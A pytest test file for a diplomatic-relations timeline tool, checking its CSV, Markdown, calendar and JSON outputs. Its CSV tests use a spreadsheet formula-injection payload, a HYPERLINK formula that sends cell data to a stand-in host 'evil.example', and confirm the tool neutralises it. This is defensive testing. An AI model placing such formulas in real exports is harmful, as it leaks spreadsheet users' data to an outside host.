"""Each output read by the client that real users point at it: the csv module as a
spreadsheet's importer, a Markdown parser, a calendar library, a JSON Schema validator."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import icalendar
import jsonschema
import pytest
from markdown_it import MarkdownIt

from tests.helpers import (
    EVIDENCE_EVENTS,
    ROOT,
    Run,
    assert_data_error,
    assert_usage_error,
    event,
)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def hostile_store(make_store: Callable[..., Path]) -> Path:
    return make_store(
        [
            event(id="f-1", title=FORMULA),
            event(id="f-2", date="1997", kind="visit", title="+1 visit", by="AZ"),
            event(id="f-3", date="1998", kind="visit", title="@SUM(A1:A9)", by="AZ"),
            event(id="f-4", date="1999", kind="visit", title="-2+3", by="AZ"),
        ]
    )


def test_csv_cells_never_run_as_formulas(run: Run, make_store: Callable[..., Path]) -> None:
    store = hostile_store(make_store)
    out = run("timeline", "AZ", "JP", "--store", str(store), "--format", "csv").stdout
    titles = [row["title"] for row in csv.DictReader(io.StringIO(out))]
    assert titles == ["'" + FORMULA, "'+1 visit", "'@SUM(A1:A9)", "'-2+3"]
    raw = run("timeline", "AZ", "JP", "--store", str(store), "--format", "csv", "--raw").stdout
    assert next(row["title"] for row in csv.DictReader(io.StringIO(raw))) == FORMULA


def test_every_csv_listing_is_protected(run: Run, make_store: Callable[..., Path]) -> None:
    store = str(hostile_store(make_store))
    for args in (
        ("anniversary", "--year", "2022", "--every", "1"),
        ("search", "A", "--kind", "diplomatic-relations"),
        ("upcoming", "--as-of", "2022-09-01", "--days", "30", "--every", "1"),
    ):
        out = run(*args, "--store", store, "--format", "csv").stdout
        assert "=HYPERLINK" not in out.replace("'=HYPERLINK", ""), args


def test_markdown_sources_are_links(run: Run) -> None:
    text = run("show", "az-jp-diplomatic-relations", "--format", "markdown").stdout
    html = MarkdownIt().render(text)
    assert '<a href="https://tokyo.mfa.gov.az/' in html
    assert "\\_" not in html.split("href=")[1].split('"')[1]
    letter = MarkdownIt().render(run("show-letter", "--format", "markdown").stdout)
    assert "<a href=" in letter


def _links(html: str) -> list[str]:
    from html import unescape

    return [unescape(h) for h in re.findall(r'<a href="([^"]*)"', html)]


def _addresses(events: list[dict[str, Any]]) -> list[str]:
    """The source addresses of the events' disputed claims, as link targets."""
    from bilat.render.common import link_target

    return [
        link_target(s["url"])
        for e in events
        for claim in e.get("disputed", ())
        for s in claim["sources"]
        if s.get("url")
    ]


@pytest.mark.parametrize(
    "args",
    [
        ("timeline", "AZ", "JP"),
        ("timeline", "JP", "US"),
        ("show", "az-embassy-tokyo"),
        ("search", "embassy", "--country", "JP"),
    ],
)
def test_markdown_notes_and_disputed_dates_link_their_sources(
    run: Run, args: tuple[str, ...]
) -> None:
    """CommonMark (markdown-it-py) and GitHub's Markdown (cmark-gfm) both make a working
    link of every address in the notes under a listing and in "Disputed dates", with no
    backslash inside (an escaped address was text to one and a broken link to the other)."""
    import cmarkgfm

    text = run(*args, "--format", "markdown").stdout
    doc = json.loads(run(*args, "--format", "json").stdout)
    events = doc.get("events") or [doc.get("event", doc)]
    wanted = _addresses(events)
    assert wanted, "no disputed date with a source address here"
    notes = text[text.index("also given as") - 200 :]  # the notes, or the section
    for html in (MarkdownIt().render(notes), cmarkgfm.github_flavored_markdown_to_html(notes)):
        found = _links(html)
        assert all("\\" not in href and "%5C" not in href for href in found)
        assert all(href.startswith(("https://", "http://")) for href in found)
        assert set(wanted) <= set(found)
        assert "&lt;http" not in html


def test_an_empty_calendar_is_not_written(run: Run, tmp_path: Path) -> None:
    target = tmp_path / "none.ics"
    result = run(
        "export", "ics", "--from-year", "2031", "--to-year", "2031", "--pair", "AZ", "JP",
        "--every", "100", "-o", str(target),
    )  # fmt: skip
    assert_data_error(result, "no anniversary to put in a calendar", "nothing was written")
    assert not target.exists()


def test_a_calendar_is_valid_for_icalendar(run: Run, tmp_path: Path) -> None:
    target = tmp_path / "az.ics"
    result = run(
        "export", "ics", "--from-year", "2027", "--to-year", "2027", "--country", "AZ",
        "-o", str(target),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    calendar = icalendar.Calendar.from_ical(target.read_bytes())
    assert calendar.walk("VEVENT")
    assert " anniversaries written to " in result.stderr or " anniversary written" in (
        result.stderr
    )


def test_a_calendar_spans_at_most_200_years(run: Run) -> None:
    result = run(
        "export", "ics", "--from-year", "1", "--to-year", "9999", "--every", "1", "-o", "-"
    )
    assert_usage_error(result, "at most 200 years")


def test_export_json_is_a_valid_store_by_the_schema(run: Run) -> None:
    schema = json.loads((ROOT / "data" / "events.schema.json").read_text())
    out = run("export", "json", "--pair", "AZ", "JP").stdout
    jsonschema.validate(json.loads(out), schema)


def test_one_line_rows_of_a_parties_option_never_swallow_options(run: Run) -> None:
    result = run("add", "--date", "2022", "--parties", "AZ", "--kind", "visit")
    assert_usage_error(result, "expected a country, got the option '--kind'")


def test_stores_lists_a_missing_store(run: Run, tmp_path: Path) -> None:
    missing = tmp_path / "a.json"
    bundled = ROOT / "data" / "events.json"
    result = run("stores", "--format", "json", env={"BILAT_STORE": f"{missing}:{bundled}"})
    assert result.exit_code == 0, result.output
    stores = json.loads(result.stdout)["stores"]
    assert stores[0]["status"] == "not read: no such store file"
    assert stores[1]["status"] == "read"


def test_relations_name_countries(run: Run) -> None:
    out = " ".join(run("relations", "AZ").stdout.split())
    assert "Japan recognised Azerbaijan 1991-12-28" in out


def evidence_schema(key: str) -> dict[str, object]:
    """A listing whose every item says how strong its date is, by the store's own names."""
    schema = json.loads((ROOT / "data" / "events.schema.json").read_text())
    types = schema["$defs"]["Source"]["properties"]["type"]["anyOf"][0]["enum"]
    item = {
        "type": "object",
        "required": ["evidence"],
        "properties": {"evidence": {"enum": [*types, None]}},
    }
    return {
        "type": "object",
        "required": [key],
        "properties": {key: {"type": "array", "minItems": 1, "items": item}},
    }


def test_every_listing_in_json_says_how_strong_each_date_is(
    run: Run, make_store: Callable[..., Path]
) -> None:
    store = str(make_store(EVIDENCE_EVENTS))
    seen = set()
    for args, key in (
        (("timeline", "AZ"), "events"),
        (("timeline", "AZ", "KZ"), "events"),
        (("search", "relations"), "events"),
        (("anniversary", "--year", "2022"), "anniversaries"),
        (("upcoming", "--as-of", "2022-01-01", "--days", "365"), "anniversaries"),
        (("relations", "AZ"), "partners"),
    ):
        doc = json.loads(run(*args, "--store", store, "--format", "json").stdout)
        jsonschema.validate(doc, evidence_schema(key))
        seen |= {item["evidence"] for item in doc[key]}
    assert seen == {"official", "scholarly", "news", "encyclopedia", None}
    shown = json.loads(run("show", "az-kz", "--store", store, "--format", "json").stdout)
    jsonschema.validate({"events": [shown]}, evidence_schema("events"))
    assert shown["evidence"] == "encyclopedia"


def test_csv_and_markdown_carry_the_evidence(run: Run, make_store: Callable[..., Path]) -> None:
    store = str(make_store(EVIDENCE_EVENTS))
    out = run("timeline", "AZ", "--store", store, "--format", "csv").stdout
    rows = {row["id"]: row["evidence"] for row in csv.DictReader(io.StringIO(out))}
    assert rows == {
        "az-tr": "", "az-kz": "encyclopedia", "az-jp": "official", "az-ge": "news"
    }  # fmt: skip
    text = run("anniversary", "--year", "2022", "--store", store, "--format", "markdown").stdout
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<td>2022-08-27 °</td>" in html  # Kazakhstan's date: an encyclopedia alone
    assert "<td>2022-09-07</td>" in html
    assert "° the date rests on an encyclopedia alone" in html
